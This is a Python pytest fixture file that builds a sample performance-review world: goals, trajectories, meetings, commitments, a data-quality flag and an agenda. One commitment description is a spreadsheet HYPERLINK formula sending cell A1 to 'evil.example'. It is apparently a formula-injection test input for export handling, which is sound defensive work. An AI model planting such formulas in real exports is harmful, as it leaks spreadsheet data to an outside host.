"""A small objective with two goals, an earlier meeting's commitments and a meeting on
9 Jan 2023 whose agenda is built by hand: one item of each kind."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, date, datetime

import pytest
from sqlalchemy.orm import Session

from delivery.figures import record_figure
from delivery.models import (
    AgendaItem,
    Commitment,
    DataQualityFlag,
    Decision,
    Goal,
    Objective,
    Pillar,
    ReviewMeeting,
)
from delivery.trajectory_versions import approve, propose
from delivery.vocabulary import AgendaKind, CommitmentState, MeetingState, Shape
from tests.factories import make_goal

HELD_ON = date(2023, 1, 9)
KNOWN = datetime(2023, 1, 5, 12, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@dataclass
class World:
    meeting: ReviewMeeting
    earlier: ReviewMeeting
    behind: Goal
    ahead: Goal
    overdue: Commitment
    closed_after: Commitment
    closed_before: Commitment
    made: Commitment
    flag: DataQualityFlag


def _goal(session: Session, objective: Objective, code: str, latest: float) -> Goal:
    goal = make_goal(session, code=code, name=f"Goal {code}", objective=objective,
                     baseline_value=100.0, baseline_date=date(2022, 1, 31), target_value=70.0,
                     target_date=date(2023, 12, 31))
    plan = propose(session, goal, Shape.LINEAR, [(date(2022, 1, 31), 100.0),
                                                 (date(2023, 12, 31), 70.0)],
                   proposed_by="ana", rationale="the promise", based_on=None,
                   at=datetime(2022, 1, 1, tzinfo=UTC))
    approve(session, plan, approved_by="gil", at=datetime(2022, 1, 2, tzinfo=UTC))
    for month, value in ((10, 86.0), (11, (86.0 + latest) / 2), (12, latest)):
        record_figure(session, goal, date(2022, month, 1), date(2022, month, 28), value,
                      reported_by="ana", recorded_at=KNOWN)
    return goal


@pytest.fixture
def world(db: Session) -> World:
    objective = Objective(code="OEX", name="Safer streets", pillar=Pillar(code="PX", name="P"))
    db.add(objective)
    db.flush()
    behind = _goal(db, objective, "G-BEHIND", 99.0)  # planned about 84: off track
    ahead = _goal(db, objective, "G-AHEAD", 80.0)  # better than planned: on track
    earlier = ReviewMeeting(held_on=date(2022, 12, 12), title="Earlier review",
                            objective_id=objective.id, state=MeetingState.HELD)
    meeting = ReviewMeeting(held_on=HELD_ON, title="Weekly review: safer streets",
                            objective_id=objective.id, state=MeetingState.HELD,
                            invited=["Governor", "Secretary", "Delivery unit"],
                            attendees=["Governor", "Delivery unit"], notes="Patrols to double.")
    db.add_all([earlier, meeting])
    db.flush()
    overdue = Commitment(meeting_id=earlier.id, goal_id=behind.id, owner="Chief of police",
                         description="Patrol plan for the ten worst areas",
                         due_on=date(2023, 1, 2))
    closed_after = Commitment(meeting_id=earlier.id, goal_id=ahead.id, owner="Secretary",
                              description="Hire 40 analysts", due_on=date(2023, 1, 20),
                              state=CommitmentState.DONE, closed_on=date(2023, 1, 12))
    closed_before = Commitment(meeting_id=earlier.id, goal_id=ahead.id, owner="Secretary",
                               description="Publish the crime map", due_on=date(2022, 12, 20),
                               state=CommitmentState.DONE, closed_on=date(2022, 12, 19))
    made = Commitment(meeting_id=meeting.id, goal_id=behind.id, owner="Chief of police",
                      description=FORMULA, due_on=date(2023, 2, 1))
    flag = DataQualityFlag(goal_id=behind.id, kind="jump", reason="December jumped by 20%.",
                           evidence={"period": "Dec 2022", "change": 0.2},
                           raised_at=datetime(2023, 1, 6, 9))
    db.add_all([overdue, closed_after, closed_before, made, flag])
    db.flush()
    items = [
        AgendaItem(meeting_id=meeting.id, position=0, kind=AgendaKind.TOPIC,
                   title="Carnival security", note="Bring the plan.", added_by="ana"),
        AgendaItem(meeting_id=meeting.id, position=1, kind=AgendaKind.GOAL, goal_id=behind.id,
                   title="Goal G-BEHIND", added_by="agenda builder"),
        AgendaItem(meeting_id=meeting.id, position=2, kind=AgendaKind.FLAG, flag_id=flag.id,
                   goal_id=behind.id, title="A jump in December", added_by="agenda builder"),
        AgendaItem(meeting_id=meeting.id, position=3, kind=AgendaKind.COMMITMENT,
                   commitment_id=overdue.id, title="Patrol plan (overdue)",
                   added_by="agenda builder"),
    ]
    db.add_all(items)
    db.flush()
    db.add(Decision(meeting_id=meeting.id, agenda_item_id=items[1].id, goal_id=behind.id,
                    text="Move two battalions to the worst areas.", recorded_by="ana"))
    db.flush()
    db.expire_all()
    return World(meeting, earlier, behind, ahead, overdue, closed_after, closed_before, made,
                 flag)
